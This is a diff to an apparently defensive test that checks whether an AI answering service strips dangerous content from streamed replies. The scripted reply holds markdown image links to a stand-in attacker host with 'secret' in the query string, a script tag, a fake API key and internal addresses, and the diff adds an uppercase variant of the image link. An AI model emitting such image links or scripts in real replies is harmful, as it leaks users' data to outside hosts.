@@ -29,14 +29,14 @@ async def harbour(scripted: Stack) -> Stack:
 async def test_links_html_keys_and_addresses_are_made_harmless_in_streams(harbour: Stack, engine: OpenAIEngine) -> None:
     says(
         engine,
-        f"{FACT} ![x](https://evil.example/?q=secret) <script>alert(1)</script> The key sy-AbCdEfGhIjKlMnOpQrStUv is in "
+        f"{FACT} ![x](https://evil.example/?q=secret) ![y](HTTPS://EVIL.example/y) <script>alert(1)</script> The key sy-AbCdEfGhIjKlMnOpQrStUv is in "
         "/data/auth/first-key on 10.0.0.7:8000. Pay at https://harbour.example/pay now.",
     )
     found = await harbour.events(QUESTION)
     shown = "".join(data["text"] for name, data in found if name == "token")
     done = found[-1][1]
     for text in (shown, done["text"]):
-        for harmful in ("evil.example", "<script", "sy-Ab", "/data/", "10.0.0.7"):
+        for harmful in ("evil.example", "EVIL.example", "<script", "sy-Ab", "/data/", "10.0.0.7"):
             assert harmful not in text
         # What the documents hold may be said.
         assert "https://harbour.example/pay" in text
